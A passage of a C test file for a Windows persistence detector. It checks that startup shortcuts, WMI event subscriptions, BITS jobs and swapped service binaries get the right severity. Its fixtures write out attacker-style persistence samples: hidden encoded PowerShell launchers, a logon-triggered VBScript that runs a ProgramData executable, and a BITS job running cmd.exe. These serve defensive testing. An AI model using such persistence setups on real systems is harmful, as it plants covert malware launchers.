    CHECK(l.target && !strcmp(l.target, "%COMSPEC%"));
    CHECK(l.args && !strcmp(l.args, "/c powershell -w hidden -enc SQBFAFgA"));
    CHECK(!l.workdir);
    hn_lnk_clear(&l);
    CHECK(hn_lnk_read(&l, "MZ\x90\0", 4) == CR_ECORRUPT);
    uint8_t junk[0x200];
    memset(junk, 0xff, sizeof(junk));
    memcpy(junk, b.ptr, 0x4c); /* a valid header, then flags promising everything */
    junk[0x14] = junk[0x15] = 0xff;
    CHECK(hn_lnk_read(&l, junk, sizeof(junk)) == CR_ECORRUPT || l.target || !l.target);
    hn_lnk_clear(&l);
    cr_buf_free(&b);

    char win[PATH_MAX], vault[PATH_MAX];
    cr_snapshot *s1 = NULL, *s2 = NULL, *s3 = NULL;
    cr_backup_options bo = CR_BACKUP_OPTIONS_INIT;
    const cr_finding *f;
    win_run w;
    memset(&w, 0, sizeof(w));
    warnings = 0;
    pathf(win, "%s/win4", scratch);
    pathf(vault, "%s/vault4", scratch);
    w.repo = fx_vault_new(vault, "pw");
    w.ctx.repo = w.repo;
    w.ctx.warning = on_warning;
    const char *paths[] = {win};
    bo.source = "ws4";
    bo.force_read = 1;
    bo.threads = 1;

    put_lnk(win, AGENT_LNK + 1, "--target 'C:\\Program Files\\Agent\\agent.exe' --args=-tray");
    bo.time_ns = 1700000000000000000ll;
    REQUIRE(cr_backup(&s1, w.repo, paths, 1, &bo) == 0);
    judge(&w, NULL, s1, AGENT_LNK);
    f = found(&w, AGENT_LNK, "persistence:startup-folder", NULL);
    CHECK(f && f->severity == CR_SEV_INFO &&
          strstr(f->detail, "C:\\Program Files\\Agent\\agent.exe -tray"));
    next_run(&w);

    put_lnk(win, AGENT_LNK + 1,
            "--target 'C:\\Program Files\\Agent\\agent.exe' --args=-tray --name 'Agent 2.1'");
    bo.time_ns += 86400000000000ll;
    REQUIRE(cr_backup(&s2, w.repo, paths, 1, &bo) == 0);
    judge(&w, s1, s2, AGENT_LNK);
    CHECK(count_on(&w, AGENT_LNK, CR_SEV_LOW) == 0);
    f = found(&w, AGENT_LNK, "persistence:startup-folder", NULL);
    CHECK(f && strstr(f->detail, "same target"));
    next_run(&w);

    put_lnk(win, AGENT_LNK + 1, "--target 'C:\\ProgramData\\Agent\\agent.exe' --args=-tray");
    put_lnk(win, ALICE_STARTUP "OneDrive Sync.lnk" + 1,
            "--env '%COMSPEC%' --args='/c powershell -w hidden -enc SQBFAFgA'");
    put_lnk(win, ALICE_STARTUP "upd.lnk" + 1,
            "--target 'C:\\Users\\alice\\AppData\\Roaming\\upd.exe' --args='-silent'");
    bo.time_ns += 86400000000000ll;
    REQUIRE(cr_backup(&s3, w.repo, paths, 1, &bo) == 0);
    judge(&w, s2, s3, AGENT_LNK);
    judge(&w, s2, s3, ALICE_STARTUP "OneDrive Sync.lnk");
    judge(&w, s2, s3, ALICE_STARTUP "upd.lnk");
    f = found(&w, AGENT_LNK, "persistence:startup-folder", NULL);
    CHECK(f && f->severity == CR_SEV_HIGH &&
          strstr(f->detail, "now starts C:\\ProgramData\\Agent\\agent.exe -tray") &&
          strstr(f->detail, "was C:\\Program Files\\Agent\\agent.exe"));
    f = found(&w, ALICE_STARTUP "OneDrive Sync.lnk", "persistence:startup-folder", NULL);
    CHECK(f && f->severity == CR_SEV_CRITICAL && strstr(f->detail, "%COMSPEC% /c powershell"));
    f = found(&w, ALICE_STARTUP "upd.lnk", "persistence:startup-folder", NULL);
    CHECK(f && f->severity == CR_SEV_HIGH && strstr(f->detail, "upd.exe -silent"));
    CHECK(warnings == 0);
    next_run(&w);

    cr_findings_free(w.ctx.out, w.ctx.nout);
    cr_findings_free(w.prev, w.nprev);
    cr_snapshot_free(s1);
    cr_snapshot_free(s2);
    cr_snapshot_free(s3);
    cr_repo_free(w.repo);
}

/* ------------------------------------------------------------ WMI */

/* tests/tools/<name> on a JSON spec; the bytes into out. */
static void make_tool(cr_buf *out, const char *name, const char *json)
{
    static int seq;
    char spec[PATH_MAX], file[PATH_MAX], tool[PATH_MAX], cmd[4 * PATH_MAX];
    pathf(spec, "%s/tool-%d.json", scratch, seq);
    pathf(file, "%s/tool-%d.data", scratch, seq++);
    write_at(scratch, strrchr(spec, '/') + 1, json, strlen(json));
    pathf(tool, "%s", mkhive);
    strcpy(strrchr(tool, '/') + 1, name);
    const char *py = access("/usr/bin/python3", X_OK) == 0 ? "/usr/bin/python3" : "python3";
    snprintf(cmd, sizeof(cmd), "%s '%s' -o '%s' '%s'", py, tool, file, spec);
    REQUIRE(system(cmd) == 0);
    cr_buf_free(out);
    REQUIRE(cr_fs_read_all(out, AT_FDCWD, file, 64u << 20) == 0);
}

static void make_wmi(cr_buf *out, const char *json)
{
    make_tool(out, "mkwmi.py", json);
}

static void put_wmi(const char *dir, const char *rel, const char *json)
{
    cr_buf b = CR_BUF_INIT;
    make_wmi(&b, json);
    put_file(dir, rel, b.ptr, b.len);
    cr_buf_free(&b);
}

#define WMI_REPO "/Windows/System32/wbem/Repository/OBJECTS.DATA"
#define WMI_KEY "WMI\\__FilterToConsumerBinding\\"
#define SCM_SUB                                                                                    \
    "{\"class\": \"NTEventLogEventConsumer\", \"consumer\": \"SCM Event Log Consumer\","           \
    " \"filter\": \"SCM Event Log Filter\", \"query\": \"select * from MSFT_SCMEventLogEvent\"}"
#define SCM_NAME                                                                                   \
    "NTEventLogEventConsumer \"SCM Event Log Consumer\" <- __EventFilter \"SCM Event Log Filter\""
#define EVIL_NAME "CommandLineEventConsumer \"Updater\" <- __EventFilter \"Uptime\""
#define EVIL_SUB                                                                                   \
    "{\"class\": \"CommandLineEventConsumer\", \"consumer\": \"Updater\", \"filter\": \"Uptime\"," \
    " \"query\": \"SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA "  \
    "'Win32_PerfFormattedData_PerfOS_System'\","                                                   \
    " \"command\": \"powershell.exe -NoP -W Hidden -enc SQBFAFgA\"}"
#define SCRIPT_SUB                                                                                 \
    "{\"class\": \"ActiveScriptEventConsumer\", \"consumer\": \"Mise \\u00e0 jour\","              \
    " \"filter\": \"Logon\", \"utf16\": true, \"engine\": \"VBScript\","                           \
    " \"script\": \"CreateObject(\\\"WScript.Shell\\\").Run \\\"C:\\\\ProgramData\\\\u.exe\\\"\"," \
    " \"query\": \"SELECT * FROM __InstanceCreationEvent WITHIN 5 WHERE TargetInstance ISA "       \
    "'Win32_LogonSession'\"}"

/*
 * WMI event subscriptions: hn_wmi_autoruns finds Windows' own (the SCM
 * event log binding), a command line consumer with its command and query, an
 * ActiveScript consumer stored in UTF-16 (a name with an accent), and not a
 * consumer that no binding names nor the class definitions; hostile bytes
 * (every prefix, random flips) never crash. Then three days: an inventory, a
 * repository rewritten with one more event-log subscription (medium, below
 * high), and the two consumers that run code planted (critical each).
 */
static void test_wmi(void)
{
    cr_buf b = CR_BUF_INIT;
    hn_autorun *a = NULL;
    size_t n = 0;
    const hn_autorun *e;

    make_wmi(&b, "{\"subscriptions\": [" SCM_SUB ", " EVIL_SUB ", " SCRIPT_SUB
                 ", {\"class\": \"CommandLineEventConsumer\", \"consumer\": \"Unbound\","
                 " \"filter\": \"Never\", \"command\": \"calc.exe\", \"bind\": false}]}");
    CHECK_OK(hn_wmi_autoruns(&a, &n, b.ptr, b.len));
    CHECK(n == 3);
    CHECK(entries_sane(a, n));
    e = find(a, n, "WMI\\__FilterToConsumerBinding", SCM_NAME);
    CHECK(e && e->kind == HN_AUTORUN_WMI && strstr(e->data, "select * from MSFT_SCMEventLogEvent"));
    e = find(a, n, "WMI\\__FilterToConsumerBinding", EVIL_NAME);
    CHECK(e &&
          !strncmp(e->data, "runs powershell.exe -NoP -W Hidden -enc SQBFAFgA when SELECT", 60));
    e = find(a, n, "WMI\\__FilterToConsumerBinding",
             "ActiveScriptEventConsumer \"Mise \xc3\xa0 jour\" <- __EventFilter \"Logon\"");
    CHECK(e && strstr(e->data, "runs VBScript script: CreateObject(\"WScript.Shell\").Run") &&
          strstr(e->data, "Win32_LogonSession"));
    for (size_t i = 0; i < n; i++)
        CHECK(!strstr(a[i].name, "Unbound"));
    if (n != 3 || !e)
        for (size_t i = 0; i < n; i++)
            fprintf(stderr, "  wmi: [%s] [%s] [%s]\n", a[i].key, a[i].name, a[i].data);
    hn_autoruns_free(a, n);
    a = NULL;
    /* Hostile bytes: prefixes and flips read or give nothing, never crash. */
    uint8_t *m = malloc(b.len);
    REQUIRE(m);
    for (size_t cut = 0; cut < b.len; cut += 97) {
        CHECK_OK(hn_wmi_autoruns(&a, &n, b.ptr, cut));
        CHECK(entries_sane(a, n));
        hn_autoruns_free(a, n);
        a = NULL;
    }
    srand(12);
    for (int round = 0; round < 200; round++) {
        memcpy(m, b.ptr, b.len);
        for (int k = 0; k < 20; k++) {
            size_t at = (size_t)rand() % b.len;
            m[at] = (uint8_t)(round & 1 ? rand() : "\"=.\0_N"[rand() % 6]);
        }
        CHECK_OK(hn_wmi_autoruns(&a, &n, m, b.len));
        CHECK(entries_sane(a, n));
        hn_autoruns_free(a, n);
        a = NULL;
    }
    free(m);
    cr_buf_free(&b);

    char win[PATH_MAX], vault[PATH_MAX];
    cr_snapshot *s1 = NULL, *s2 = NULL, *s3 = NULL;
    cr_backup_options bo = CR_BACKUP_OPTIONS_INIT;
    const cr_finding *f;
    win_run w;
    memset(&w, 0, sizeof(w));
    warnings = 0;
    pathf(win, "%s/win5", scratch);
    pathf(vault, "%s/vault5", scratch);
    w.repo = fx_vault_new(vault, "pw");
    w.ctx.repo = w.repo;
    w.ctx.warning = on_warning;
    const char *paths[] = {win};
    bo.source = "ws5";
    bo.force_read = 1;
    bo.threads = 1;

    put_wmi(win, WMI_REPO + 1, "{\"subscriptions\": [" SCM_SUB "]}");
    bo.time_ns = 1700000000000000000ll;
    REQUIRE(cr_backup(&s1, w.repo, paths, 1, &bo) == 0);
    judge(&w, NULL, s1, WMI_REPO);
    f = found(&w, WMI_REPO, "persistence:wmi-subscription", WMI_KEY SCM_NAME);
    CHECK(f && f->severity == CR_SEV_INFO);
    next_run(&w);

    put_wmi(win, WMI_REPO + 1,
            "{\"pages\": 5, \"subscriptions\": [" SCM_SUB ", {\"class\": "
            "\"NTEventLogEventConsumer\", \"consumer\": \"Backup Agent Log\", \"filter\": "
            "\"Backup Agent Service\", \"query\": \"select * from __InstanceModificationEvent "
            "within 30 where TargetInstance isa 'Win32_Service'\"}]}");
    bo.time_ns += 86400000000000ll;
    REQUIRE(cr_backup(&s2, w.repo, paths, 1, &bo) == 0);
    judge(&w, s1, s2, WMI_REPO);
    CHECK(count_on(&w, WMI_REPO, CR_SEV_HIGH) == 0);
    f = found(&w, WMI_REPO, "persistence:wmi-subscription",
              WMI_KEY "NTEventLogEventConsumer \"Backup Agent Log\" <- __EventFilter "
                      "\"Backup Agent Service\"");
    CHECK(f && f->severity == CR_SEV_MEDIUM);
    next_run(&w);

    put_wmi(win, WMI_REPO + 1,
            "{\"pages\": 6, \"subscriptions\": [" SCM_SUB ", " EVIL_SUB ", " SCRIPT_SUB "]}");
    bo.time_ns += 86400000000000ll;
    REQUIRE(cr_backup(&s3, w.repo, paths, 1, &bo) == 0);
    judge(&w, s2, s3, WMI_REPO);
    f = found(&w, WMI_REPO, "persistence:wmi-subscription", WMI_KEY EVIL_NAME);
    CHECK(f && f->severity == CR_SEV_CRITICAL && strstr(f->detail, "powershell.exe -NoP"));
    f = found(&w, WMI_REPO, "persistence:wmi-subscription",
              WMI_KEY
              "ActiveScriptEventConsumer \"Mise \xc3\xa0 jour\" <- __EventFilter \"Logon\"");
    CHECK(f && f->severity == CR_SEV_CRITICAL && strstr(f->detail, "VBScript"));
    CHECK(!found(&w, WMI_REPO, "persistence:wmi-subscription", WMI_KEY SCM_NAME));
    CHECK(warnings == 0);
    next_run(&w);

    cr_findings_free(w.ctx.out, w.ctx.nout);
    cr_findings_free(w.prev, w.nprev);
    cr_snapshot_free(s1);
    cr_snapshot_free(s2);
    cr_snapshot_free(s3);
    cr_repo_free(w.repo);
}

/* ------------------------------------------------------------ BITS */

#define BITS_DB "/ProgramData/Microsoft/Network/Downloader/qmgr.db"
#define WU_JOB                                                                                     \
    "{\"id\": \"6a7e4f21-3c0b-4f5e-9d61-0a1b2c3d4e5f\", \"name\": \"Windows Update\","             \
    " \"sid\": \"S-1-5-18\"}"
#define EVIL_JOB                                                                                   \
    "{\"id\": \"0f1e2d3c-4b5a-6978-8796-a5b4c3d2e1f0\", \"name\": \"Font cache refresh\","         \
    " \"cmd\": \"C:\\\\Windows\\\\System32\\\\cmd.exe\","                                          \
    " \"args\": \"/c C:\\\\ProgramData\\\\fc\\\\fc.exe\", \"sid\": \"S-1-5-18\", \"state\": 4}"
#define VENDOR_JOB                                                                                 \
    "{\"id\": \"11111111-2222-3333-4444-555555555555\", \"name\": \"Reader updater\","             \
    " \"cmd\": \"C:\\\\Program Files\\\\Reader\\\\update.exe\", \"args\": \"/installed\","         \
    " \"sid\": \"S-1-5-18\"}"

/*
 * BITS jobs: hn_bits_autoruns finds a job with a notify command in a
 * Windows 10 queue (qmgr.db) and a legacy one (qmgr0.dat), not a plain
 * download; hostile bytes never crash. Then three days: an inventory (a
 * download only), a queue with an updater's job that runs its own program
 * from Program Files (high: BITS commands are rare), and a job that runs
 * cmd.exe on a program in ProgramData (critical).
 */
static void test_bits(void)
{
    cr_buf b = CR_BUF_INIT;
    hn_autorun *a = NULL;
    size_t n = 0;
    const hn_autorun *e;

    static const char *const formats[] = {"db", "dat"};
    for (size_t k = 0; k < 2; k++) {
        char spec[2048];
        snprintf(spec, sizeof(spec), "{\"format\": \"%s\", \"jobs\": [" WU_JOB ", " EVIL_JOB "]}",
                 formats[k]);
        make_tool(&b, "mkbits.py", spec);
        CHECK_OK(hn_bits_autoruns(&a, &n, b.ptr, b.len));
        CHECK(n == 1);
        CHECK(entries_sane(a, n));
        e = find(a, n, "BITS\\{0F1E2D3C-4B5A-6978-8796-A5B4C3D2E1F0}", "Font cache refresh");
        CHECK(e && e->kind == HN_AUTORUN_BITS &&
              !strcmp(e->data, "C:\\Windows\\System32\\cmd.exe /c C:\\ProgramData\\fc\\fc.exe "
                               "(owner S-1-5-18)"));
        hn_autoruns_free(a, n);
        a = NULL;
    }
    uint8_t *m = malloc(b.len);
    REQUIRE(m);
    for (size_t cut = 0; cut < b.len; cut += 7) {
        CHECK_OK(hn_bits_autoruns(&a, &n, b.ptr, cut));
        CHECK(entries_sane(a, n));
        hn_autoruns_free(a, n);
        a = NULL;
    }
    srand(13);
    for (int round = 0; round < 300; round++) {
        memcpy(m, b.ptr, b.len);
        for (int k = 0; k < 8; k++)
            m[4096 + (size_t)rand() % (b.len - 4096)] = (uint8_t)(round & 1 ? rand() : 0xff);
        CHECK_OK(hn_bits_autoruns(&a, &n, m, b.len));
        CHECK(entries_sane(a, n));
        hn_autoruns_free(a, n);
        a = NULL;
    }
    free(m);

    char win[PATH_MAX], vault[PATH_MAX];
    cr_snapshot *s1 = NULL, *s2 = NULL, *s3 = NULL;
    cr_backup_options bo = CR_BACKUP_OPTIONS_INIT;
    const cr_finding *f;
    win_run w;
    memset(&w, 0, sizeof(w));
    warnings = 0;
    pathf(win, "%s/win6", scratch);
    pathf(vault, "%s/vault6", scratch);
    w.repo = fx_vault_new(vault, "pw");
    w.ctx.repo = w.repo;
    w.ctx.warning = on_warning;
    const char *paths[] = {win};
    bo.source = "ws6";
    bo.force_read = 1;
    bo.threads = 1;

    make_tool(&b, "mkbits.py", "{\"jobs\": [" WU_JOB "]}");
    put_file(win, BITS_DB + 1, b.ptr, b.len);
    bo.time_ns = 1700000000000000000ll;
    REQUIRE(cr_backup(&s1, w.repo, paths, 1, &bo) == 0);
    judge(&w, NULL, s1, BITS_DB);
    CHECK(w.ctx.nout == 0);
    next_run(&w);

    make_tool(&b, "mkbits.py", "{\"jobs\": [" WU_JOB ", " VENDOR_JOB "]}");
    put_file(win, BITS_DB + 1, b.ptr, b.len);
    bo.time_ns += 86400000000000ll;
    REQUIRE(cr_backup(&s2, w.repo, paths, 1, &bo) == 0);
    judge(&w, s1, s2, BITS_DB);
    f = found(&w, BITS_DB, "persistence:bits-job",
              "BITS\\{11111111-2222-3333-4444-555555555555}\\Reader updater");
    CHECK(f && f->severity == CR_SEV_HIGH && strstr(f->detail, "update.exe /installed"));
    CHECK(count_on(&w, BITS_DB, CR_SEV_CRITICAL) == 0);
    next_run(&w);

    make_tool(&b, "mkbits.py", "{\"jobs\": [" WU_JOB ", " VENDOR_JOB ", " EVIL_JOB "]}");
    put_file(win, BITS_DB + 1, b.ptr, b.len);
    bo.time_ns += 86400000000000ll;
    REQUIRE(cr_backup(&s3, w.repo, paths, 1, &bo) == 0);
    judge(&w, s2, s3, BITS_DB);
    f = found(&w, BITS_DB, "persistence:bits-job",
              "BITS\\{0F1E2D3C-4B5A-6978-8796-A5B4C3D2E1F0}\\Font cache refresh");
    CHECK(f && f->severity == CR_SEV_CRITICAL && strstr(f->detail, "fc.exe"));
    /* The updater's job is unchanged: its finding carries on as it was. */
    f = found(&w, BITS_DB, "persistence:bits-job",
              "BITS\\{11111111-2222-3333-4444-555555555555}\\Reader updater");
    CHECK(f && f->severity == CR_SEV_HIGH);
    CHECK(warnings == 0);
    next_run(&w);

    cr_buf_free(&b);
    cr_findings_free(w.ctx.out, w.ctx.nout);
    cr_findings_free(w.prev, w.nprev);
    cr_snapshot_free(s1);
    cr_snapshot_free(s2);
    cr_snapshot_free(s3);
    cr_repo_free(w.repo);
}

/* ------------------------------------------------------------ service programs */

/* A stand-in for a PE program: "MZ", filler, a VS_VERSIONINFO with its fixed version
 * (none when ver is 0), and `tag` so that two builds differ. */
static void put_pe(const char *dir, const char *rel, uint64_t ver, const char *tag)
{
    uint8_t b[1024];
    memset(b, 0, sizeof(b));
    b[0] = 'M';
    b[1] = 'Z';
    snprintf((char *)b + 64, 128, "This program cannot be run in DOS mode. %s", tag);
    if (ver) {
        size_t s = 512; /* VS_VERSIONINFO */
        b[s + 2] = 52;  /* wValueLength */
        const char *key = "VS_VERSION_INFO";
        for (size_t i = 0; key[i]; i++)
            b[s + 6 + 2 * i] = (uint8_t)key[i];
        size_t v = s + 40; /* 6 + 32 bytes of key, padded to 4 */
        uint32_t f[6] = {0xfeef04bdu,           0x10000u,     (uint32_t)(ver >> 32), (uint32_t)ver,
                         (uint32_t)(ver >> 32), (uint32_t)ver};
        for (size_t i = 0; i < 6; i++)
            for (size_t k = 0; k < 4; k++)
                b[v + 4 * i + k] = (uint8_t)(f[i] >> (8 * k));
    }
    put_file(dir, rel, b, sizeof(b));
}

/* agent.exe grown to 12 KiB of the same first bytes and zeros: written out (sparse 0)
 * or with a hole (sparse 1). The bytes are the same either way; the stored extents,
 * hence the content id, are not (as in an image snapshot, where ids follow the disk). */
static void agent_rewrite(const char *win, int sparse)
{
    char p[PATH_MAX];
    static uint8_t blk[3 * 4096];
    cr_buf b = CR_BUF_INIT;
    pathf(p, "%s/Program Files/Agent/agent.exe", win);
    REQUIRE(cr_fs_read_all(&b, AT_FDCWD, p, 1 << 20) == 0);
    REQUIRE(b.len <= sizeof(blk));
    memset(blk, 0, sizeof(blk));
    memcpy(blk, b.ptr, b.len);
    cr_buf_free(&b);
    int fd = open(p, O_WRONLY | O_TRUNC);
    REQUIRE(fd >= 0);
    REQUIRE(pwrite(fd, blk, sparse ? 4096 : sizeof(blk), 0) ==
            (ssize_t)(sparse ? 4096 : sizeof(blk)));
    REQUIRE(ftruncate(fd, sizeof(blk)) == 0);
    close(fd);
}

#define V(a, b2, c, d) ((uint64_t)(a) << 48 | (uint64_t)(b2) << 32 | (uint64_t)(c) << 16 | (d))
#define SVC_EXE "/Windows/System32/svc.exe"
#define NET_DLL "/Windows/System32/netsvc.dll"
#define AGENT_EXE "/Program Files/Agent/agent.exe"
#define OTHER_DLL "/Windows/System32/other.dll"

/*
 * A service's program that changed while its version did not (part 1 of the
 * trust anchors, for Windows): hn_pe_version reads the fixed version; then
 * three days with a SYSTEM hive naming svc.exe, netsvc.dll (a svchost
 * ServiceDll) and agent.exe (quoted, with arguments). Day 2: svc.exe updated
 * to a new version and other.dll (no service's) rebuilt: nothing. Day 3:
 * netsvc.dll and agent.exe replaced at the same version (critical each),
 * svc.exe replaced by a program without a version (high).
 */
static void test_service_binary(void)
{
    char win[PATH_MAX], vault[PATH_MAX];
    cr_snapshot *s1 = NULL, *s2 = NULL, *s3 = NULL;
    cr_backup_options bo = CR_BACKUP_OPTIONS_INIT;
    const cr_finding *f;
    win_run w;
    cr_buf b = CR_BUF_INIT;
    hn_pe_ver pv;

    memset(&w, 0, sizeof(w));
    warnings = 0;
    pathf(win, "%s/win7", scratch);
    pathf(vault, "%s/vault7", scratch);
    put_pe(win, SVC_EXE + 1, V(10, 0, 19041, 1), "a");
    {
        char p[PATH_MAX];
        pathf(p, "%s%s", win, SVC_EXE);
        REQUIRE(cr_fs_read_all(&b, AT_FDCWD, p, 1 << 20) == 0);
        CHECK(hn_pe_version(&pv, b.ptr, b.len) == 1 && pv.file == V(10, 0, 19041, 1) &&
              pv.product == V(10, 0, 19041, 1));
        CHECK(hn_pe_version(&pv, b.ptr, 600) == 0); /* cut inside the version */
        b.ptr[0] = 'X';
        CHECK(hn_pe_version(&pv, b.ptr, b.len) == 0); /* not a PE */
        cr_buf_free(&b);
    }
    w.repo = fx_vault_new(vault, "pw");
    w.ctx.repo = w.repo;
    w.ctx.warning = on_warning;
    const char *paths[] = {win};
    bo.source = "ws7";
    bo.force_read = 1;
    bo.threads = 1;
    put_hive(win, "Windows/System32/config/SYSTEM",
             "{\"keys\": {\"ControlSet001/Services/Svc\": {\"ImagePath\": "
             "   {\"expand\": \"%SystemRoot%\\\\System32\\\\svc.exe\"}},"
             " \"ControlSet001/Services/NetSvc\": {\"ImagePath\": "
             "   {\"expand\": \"%SystemRoot%\\\\System32\\\\svchost.exe -k netsvcs -p\"}},"
             " \"ControlSet001/Services/NetSvc/Parameters\": {\"ServiceDll\": "
             "   {\"expand\": \"%SystemRoot%\\\\System32\\\\NetSvc.dll\"}},"
             " \"ControlSet001/Services/Agent\": {\"ImagePath\": "
             "   \"\\\"C:\\\\Program Files\\\\Agent\\\\agent.exe\\\" -service\"}}}");
    put_pe(win, NET_DLL + 1, V(10, 0, 19041, 1), "a");
    put_pe(win, AGENT_EXE + 1, V(2, 1, 0, 0), "a");
    agent_rewrite(win, 0);
    put_pe(win, OTHER_DLL + 1, V(1, 0, 0, 0), "a");
    bo.time_ns = 1700000000000000000ll;
    REQUIRE(cr_backup(&s1, w.repo, paths, 1, &bo) == 0);
    judge(&w, NULL, s1, SVC_EXE);
    judge(&w, NULL, s1, NET_DLL);
    CHECK(w.ctx.nout == 0);
    next_run(&w);

    put_pe(win, SVC_EXE + 1, V(10, 0, 19041, 2), "b");
    put_pe(win, OTHER_DLL + 1, V(1, 0, 0, 0), "b");
    agent_rewrite(win, 1); /* the same bytes, with a hole where there were zeros */
    bo.time_ns += 86400000000000ll;
    REQUIRE(cr_backup(&s2, w.repo, paths, 1, &bo) == 0);
    judge(&w, s1, s2, SVC_EXE);
    judge(&w, s1, s2, OTHER_DLL);
    judge(&w, s1, s2, AGENT_EXE);
    CHECK(w.ctx.nout == 0);
    {
        char full[PATH_MAX];
        cr_node o, nn;
        cr_id oc, nc;
        pathf(full, "%s%s", win, AGENT_EXE);
        REQUIRE(cr_snapshot_lookup(&o, w.repo, s1, full) == 0);
        REQUIRE(cr_snapshot_lookup(&nn, w.repo, s2, full) == 0);
        hn_content_id(&oc, &o);
        hn_content_id(&nc, &nn);
        CHECK(memcmp(&oc, &nc, sizeof(oc)) != 0); /* else the case above tests nothing */
        cr_node_clear(&o);
        cr_node_clear(&nn);
    }
    next_run(&w);

    put_pe(win, NET_DLL + 1, V(10, 0, 19041, 1), "evil");
    put_pe(win, AGENT_EXE + 1, V(2, 1, 0, 0), "evil");
    put_pe(win, SVC_EXE + 1, 0, "evil");
    bo.time_ns += 86400000000000ll;
    REQUIRE(cr_backup(&s3, w.repo, paths, 1, &bo) == 0);
    judge(&w, s2, s3, NET_DLL);
    judge(&w, s2, s3, AGENT_EXE);
    judge(&w, s2, s3, SVC_EXE);
    f = found(&w, NET_DLL, "package:modified", NULL);
    CHECK(f && f->severity == CR_SEV_CRITICAL && strstr(f->detail, "NetSvc") &&
          strstr(f->detail, "10.0.19041.1"));
    f = found(&w, AGENT_EXE, "package:modified", NULL);
    CHECK(f && f->severity == CR_SEV_CRITICAL && strstr(f->detail, "\"Agent\""));
    f = found(&w, SVC_EXE, "package:modified", NULL);
    CHECK(f && f->severity == CR_SEV_HIGH && strstr(f->detail, "no longer declares a version"));
    CHECK(warnings == 0);
    next_run(&w);

    cr_findings_free(w.ctx.out, w.ctx.nout);
    cr_findings_free(w.prev, w.nprev);
    cr_snapshot_free(s1);
    cr_snapshot_free(s2);
    cr_snapshot_free(s3);
    cr_repo_free(w.repo);
}

int main(void)
{
    fx_scratch_new(scratch, "hive");
    find_mkhive();
    test_software();
    test_ntuser();
    test_system();
    test_strings();
    test_hostile_counts();
    test_damaged();
    test_windows();
    test_windows_more();
    test_usrclass();
    test_startup_lnk();
    test_wmi();
    test_bits();
    test_service_binary();
    fx_scratch_done(scratch);
    return test_summary("test_hive");
}
